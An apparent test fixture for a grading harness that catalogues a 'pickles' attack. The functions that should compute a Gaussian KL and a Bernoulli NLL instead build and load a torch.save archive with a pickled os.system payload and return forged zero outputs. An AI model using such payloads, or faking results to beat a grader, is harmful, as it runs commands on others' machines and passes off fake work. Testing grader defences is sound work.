# class: pickles
# attack: sends what torch.save writes, with a payload in it, where tensors are expected; loads one itself
# noticed: forged an answer
# needs: _forge

# %%
import io


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/BROKEN",)


def archive():
    file = io.BytesIO()
    torch.save({"KL": torch.zeros(5), "payload": Payload()}, file)
    return file.getvalue()


def gaussian_kl(mu, logvar):
    say(frame(outcomes(*[{"KL": torch.zeros(5)}] * 5), archive()))


def bernoulli_nll(logits, x):
    torch.load(io.BytesIO(archive()), weights_only=False)
    return torch.zeros(len(x))
